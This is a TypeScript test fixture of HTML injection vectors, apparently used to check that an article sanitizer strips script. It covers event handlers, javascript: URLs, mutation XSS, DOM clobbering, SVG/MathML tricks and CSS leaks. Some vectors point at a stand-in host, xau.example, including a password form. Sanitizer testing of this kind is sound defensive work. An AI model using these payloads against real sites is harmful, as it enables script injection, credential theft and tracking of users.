/** What somebody could put into an article so that a script runs: `ran()` tells. */
export interface Vector {
  readonly html: string;
  /** Runs in every engine when nothing stands in its way, so the harness must see it. */
  readonly live?: true;
}

const live = (html: string): Vector => ({html, live: true});
const still = (html: string): Vector => ({html});

/** Base64 of `<script>parent.ran()</script>`. */
const script64 = 'PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=';

export const vectors: Readonly<Record<string, readonly Vector[]>> = {
  base: [
    still('<base href="https://xau.example/"><a href="tin/1">Tin</a>'),
    still('<base target="ran()"><a href="/tin/1" target="_top">Tin</a>'),
    still('<base href="javascript:/a/-ran()//"><a href="x">Tin</a><img src="b">'),
  ],
  'css-attribute': [
    still('<p style="position:fixed;inset:0;z-index:9999;background:red">Phủ cả trang</p>'),
    still('<p style="background:url(https://xau.example/dau-vet)">Dấu vết</p>'),
    still('<p style="color:var(--x);width:expression(ran())">Biểu thức</p>'),
    still('<p style="-moz-binding:url(//xau.example/x.xml#x);behavior:url(x.htc)">Ràng buộc</p>'),
    still('<div style="position:fixed;inset:0;opacity:0"><a href="//xau.example">Phủ</a></div>'),
    still('<p style="margin:-9999px;transform:scale(99);width:9999%;height:100vh">Phủ</p>'),
    still(
      '<p style="background-image:cross-fade(url(//xau.example/a),url(b));cursor:url(c)">a</p>',
    ),
    still(
      '<ul style="list-style:url(//xau.example/a)"><li style="mask:url(b);filter:url(#c)">a</ul>',
    ),
    still('<p style="vertical-align:middle;--x:url(a);white-space:pre">a</p>'),
    still('<td style="color:red;}</style><img src=x onerror=ran()>">Ô</td>'),
    still(
      '<p style="content:attr(title);background-image:image-set(\'//xau.example/a\' 1x)">a</p>',
    ),
  ],
  'css-element': [
    still('<style>@import "https://xau.example/a.css"; * {display: none}</style><p>Chữ</p>'),
    still('<style>[part=title]{background:url(//xau.example/?a)}</style>'),
    still('<link rel="stylesheet" href="https://xau.example/a.css"><p>Chữ</p>'),
    live('<style onload="ran()">a{}</style>'),
  ],
  'dom-clobbering': [
    still('<form id="document"><input name="cookie"><input name="body"></form>'),
    still('<img name="portalWidgets"><a id="portalWidgets" href="x:ran()">a</a>'),
    live('<form onclick="ran()"><input name="attributes"><input name="childNodes">a</form>'),
    live('<form onclick="ran()"><input name="parentNode"><input name="nodeName">a</form>'),
    live('<form onclick="ran()"><input name="nextSibling"><input name="namespaceURI">a</form>'),
    still('<img name="getElementById"><img name="head"><embed name="documentElement">'),
    still('<object id="trustedTypes"></object><iframe name="defaultView"></iframe>'),
    still('<a id="__proto__"></a><a id="constructor" name="prototype" href="#__proto__">a</a>'),
    still('<a id="config"></a><a id="config" name="url" href="https://xau.example/">a</a>'),
  ],
  'event-handler': [
    still(`<p><img src onerror /" '"= alt="ran()">Ảnh</p>`),
    live('<img src="x" onerror="ran()">'),
    still('<img src=x onerror=ran()//'),
    live('<p onclick="ran()">Bấm</p>'),
    live('<b onmouseover=ran()>Rê</b>'),
    live('<details open ontoggle="ran()"><summary>a</summary>b</details>'),
    live('<video src="x" onerror="ran()"></video>'),
    live('<audio src=x onerror=ran()></audio>'),
    live('<img/src/onerror=ran()>'),
    live('<a href="#" onfocus="ran()">a</a>'),
    live('<table><td background="x" onanimationend="ran()">a</td></table>'),
    live('<marquee onpointerover="ran()">a</marquee>'),
    live('<ABBR OnClIcK="&#114;an()">a</ABBR>'),
    live('<p oncontextmenu="ran()" onanimationend="ran()" title="\u0000">a</p>'),
    still(
      `<p ${Array.from({length: 500}, (_, at) => `on${at}x=ran()`).join(' ')} onclick=ran()>a</p>`,
    ),
    still('<p x-onclick="ran()" xonclick="ran()" data-onclick="ran()" -onclick="ran()">a</p>'),
    still('<p\u000conclick\u000c=\u000cran()>a</p><p/onclick=ran()/>b<p\u00a0onclick=ran()>c'),
    live('<x-la onmousedown=ran()>a</x-la>'),
  ],
  forms: [
    live('<form action="javascript:ran()"><button>Gửi</button></form>'),
    live('<form><button formaction="javascript:ran()">Gửi</button></form>'),
    live('<form><input type="image" formaction="javascript:ran()"></form>'),
    still('<form action="https://xau.example/"><input name="mat-khau" type="password"></form>'),
    still(
      '<input form="aspnetForm" name="__VIEWSTATE" value="a"><button form="aspnetForm">a</button>',
    ),
    live('<input autofocus onfocus="ran()">'),
    live('<select onfocusin="ran()"><option>a</option></select>'),
    still('<button popovertarget="x" commandfor="x" command="show-modal">a</button>'),
    still('<a href="/" interestfor="x" command="--ran" commandfor="x">a</a>'),
    live('<form id="f"></form><button form="f" formaction="javascript:ran()">Gửi</button>'),
    live('<keygen autofocus onfocus="ran()" tabindex="0">'),
    still('<isindex action="javascript:ran()" type="submit">'),
  ],
  'frames-plugins': [
    live('<iframe srcdoc="<script>parent.ran()</script>"></iframe>'),
    live('<iframe src="javascript:parent.ran()"></iframe>'),
    still(`<iframe src="data:text/html;base64,${script64}"></iframe>`),
    still('<iframe src="https://www.youtube.com.xau.example/embed/abcdefghijk"></iframe>'),
    still('<iframe src="https://xau.example/?https://www.youtube.com/embed/abcdefghijk"></iframe>'),
    still('<iframe src="https://www.youtube.com/embed/../redirect?q=javascript:ran()"></iframe>'),
    still(`<object data="data:text/html;base64,${script64}"></object>`),
    still('<embed src="javascript:ran()"><applet code="x"></applet>'),
    still('<iframe src="https://www.youtube.com@xau.example/embed/abcdefghijk"></iframe>'),
    still(
      '<iframe src="https://www.youtube.com/embed/abcdefghijk" srcdoc="<script>parent.ran()</script>"></iframe>',
    ),
    still('<iframe src="https://www.youtube.com/embed/abcdefghijk?x=%22onload=ran()"></iframe>'),
    live('<iframe onload="ran()"></iframe>'),
    still('<frameset onload="ran()"><frame src="javascript:ran()"></frameset>'),
    still('<portal src="https://xau.example/"></portal><fencedframe></fencedframe>'),
  ],
  'id-name': [
    still('<div id="portal-widgets-status" role="alert">Giả</div>'),
    still('<p id="main" name="main" class="navbar" part="title" slot="error">a</p>'),
    still('<label for="q" itemscope itemprop="x" data-portal-endpoint="//xau.example">a</label>'),
  ],
  mathml: [
    live('<math><mtext onclick="ran()">a</mtext></math>'),
    still('<math><maction actiontype="statusline#//x" href="javascript:ran()">a</maction></math>'),
    still('<math><mi//xlink:href="data:x,ran()"><mtext><svg><a href="javascript:ran()">a'),
    still('<math href="javascript:ran()">a</math>'),
    live(
      '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
    ),
    still(
      '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
    ),
  ],
  meta: [
    still('<meta http-equiv="refresh" content="0;url=javascript:ran()">'),
    still(
      '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">',
    ),
    still('<meta name="viewport" content="width=1"><meta http-equiv="set-cookie" content="a=b">'),
    still(
      '<link rel="preload" as="script" href="x.js"><link rel="dns-prefetch" href="//xau.example">',
    ),
    still('<link rel="canonical" href="//xau.example"><link rel="manifest" href="x"><p>Chữ</p>'),
    still('<meta charset="utf-7">+ADw-script+AD4-ran()+ADw-/script+AD4-'),
  ],
  mxss: [
    live('<svg><style><img src=x onerror=ran()></style></svg>'),
    live('<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>'),
    still(
      '<textarea><p title="</textarea><img src=x onerror=ran()>"></textarea><xmp><p id="</xmp><img src=x onerror=ran()>"></xmp>',
    ),
    still(
      '<math><mtext><form><form></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=ran() src>"></style>',
    ),
    live('<svg></p><title><a title="</title><img src=x onerror=ran()>">a</svg>'),
    still('<listing>&lt;img src=x onerror=ran()&gt;</listing><plaintext><img src=x onerror=ran()>'),
    still('<svg><desc><noscript><p title="</noscript><img src=x onerror=ran()>"></desc></svg>'),
    still('<math><mtext><svg><foreignObject><style><img src=x onerror=ran()></style></svg></math>'),
    still('<template shadowrootmode="open"><img src=x onerror=ran()></template><p>a</p>'),
    still('<template><template><svg><style><img title="</template><img src=x onerror=ran()>">'),
    still('<noembed><p id="</noembed><img src=x onerror=ran()>"></noembed><noframes></noframes>'),
    still(
      '<select><template><style><a title="</style></select><img src=x onerror=ran()>"></select>',
    ),
    still('<table><math><tr><style><td title="</style><img src=x onerror=ran()>"></table>'),
    still('<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>'),
    still('<svg><!--</svg>--><style><p title="--></style><img src=x onerror=ran()>"></svg>'),
    still('<p title="&lt;/p&gt;&lt;img src=x onerror=ran()&gt;" alt="\u0060onerror=ran()">a</p>'),
    still(`${'<a><svg><p>'.repeat(300)}<style><img src=x onerror=ran()></style>`),
    still(`${'<x-a>'.repeat(600)}<img src=x onerror=ran()>`),
    still('<template><img src=x onerror=ran()></template><p>a</p>'),
    still('<!--><img src=x onerror=ran()>--><![CDATA[<img src=x onerror=ran()>]]>'),
  ],
  other: [
    still(
      '<video controls><track default onload="ran()" src="data:text/vtt,WEBVTT"></video><p>Phim</p>',
    ),
    still('<portal-news-list endpoint="https://xau.example"></portal-news-list>'),
    still('<p is="portal-news-list">a</p><div data-portal-widget="news-list">a</div>'),
    live('<p popover onbeforetoggle="ran()" onkeydown="ran()">a</p>'),
    live('<dialog open onmouseover="ran()">a</dialog>'),
    still(
      '<audio controls autoplay loop src="//xau.example/a.mp3"></audio><video autoplay></video>',
    ),
    still('<p style="position:fixed" popover="manual" id="x">a</p><p inert hidden>b</p>'),
    still('<area ping="//xau.example"><a attributionsrc="//xau.example" href="/">a</a>'),
    still('<p role="dialog" aria-modal="true" aria-label="Đăng nhập" data-article="1">a</p>'),
    still('<dialog open>Đăng nhập lại</dialog><slot name="error">a</slot>'),
    still('<a href="https://xau.example" ping="https://xau.example/ping" target="_blank">a</a>'),
    still('<p contenteditable tabindex="1" accesskey="x" draggable="true" autofocus>a</p>'),
  ],
  parser: [
    still('<?xml version="1.0"?><?xml-stylesheet href="javascript:ran()"?><p>a</p>'),
    still('<!DOCTYPE x [<!ENTITY y "ran()">]><p>&y;</p>'),
    still('<p\u0000onclick=ran()>a</p><\u0000script>ran()</script>'),
    still('<!-- --!><img src=x onerror=ran()> --><p>a</p><!---><img src=x onerror=ran()>-->'),
    still('<p a="1"b="2"onclick="ran()">a</p><p ""onclick="ran()">b</p><p =onclick=ran()>c</p>'),
    still('<image src=x onerror=ran()><img src=`x`onerror=ran()><img ""><script>ran()</script>">'),
    still('</p></div></section></article><p>Ngoài</p>'),
  ],
  script: [
    still('<script>ran()</script>'),
    still('<script src="https://xau.example/a.js"></script><SCRIPT/X>ran()</SCRIPT>'),
    still('<scr<script>ipt>ran()</scr</script>ipt>'),
    still('<script type="module">ran()</script><script type="application/ld+json">{}</script>'),
  ],
  svg: [
    still('<svg onload="ran()"></svg>'),
    live('<svg onmouseover="ran()"></svg>'),
    live('<svg><a onclick="ran()"><text y="20">a</text></a></svg>'),
    still('<svg><a xlink:href="javascript:ran()"><text y="20">a</text></a></svg>'),
    still(
      '<svg><use href="#x"/><a id="x"><animate attributeName="href" to="javascript:ran()"/></a></svg>',
    ),
    still('<svg><a><animate attributeName="xlink:href" values="javascript:ran()"/></a></svg>'),
    still('<svg><image href="x" onerror="ran()"/><feImage href="//xau.example/a"/></svg>'),
    still('<svg><style>@import "//xau.example/a.css"</style><handler>ran()</handler></svg>'),
    live('<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>'),
    still(
      '<svg><set attributeName="onmouseover" to="ran()"/><use href="data:image/svg+xml,x#x"/></svg>',
    ),
    still('<svg><script>ran()</script><script href="data:,ran()"/></svg>'),
  ],
  'url-scheme': [
    live('<a href="javascript:ran()">a</a>'),
    live('<a href="&#1;java&#10;scr&Tab;ipt:ran()">a</a>'),
    live('<a href="JaVaScRiPt://%0aran()">a</a>'),
    live('<a href="\u0001\u0008 javascript:ran()">a</a>'),
    live('<a href="javascript&colon;ran()">a</a>'),
    still('<a href="javas\u200bcript:ran()">a</a><a href="\u00a0javascript:ran()">b</a>'),
    still('<a href="javascript:ran()" href="/">a</a><a HREF=//xau.example\\@x>b</a>'),
    still('<a href="view-source:javascript:ran()">a</a><a href="filesystem:https://a/b">b</a>'),
    still('<img src="cid:a1"><img src="blob:https://a/b"><audio src="data:audio/mp3,a"></audio>'),
    still(
      '<video><source src="javascript:ran()"></video><picture><source srcset="data:,a"></picture>',
    ),
    still('<a href="vbscript:ran()">a</a><a href="data:text/html,<script>ran()</script>">a</a>'),
    still(
      '<a href="blob:https://a/b">a</a><a href="intent://x#Intent;end">a</a><a href="file:///c:/">a</a>',
    ),
    still(`<img src="data:image/svg+xml;base64,${script64}"><img src="javascript:ran()">`),
    still('<img srcset="javascript:ran() 1x"><video poster="javascript:ran()"></video>'),
    still(
      '<blockquote cite="javascript:ran()">a</blockquote><img longdesc="javascript:ran()" usemap="#x">',
    ),
    live('<map name="x"><area href="javascript:ran()"></map>'),
  ],
};
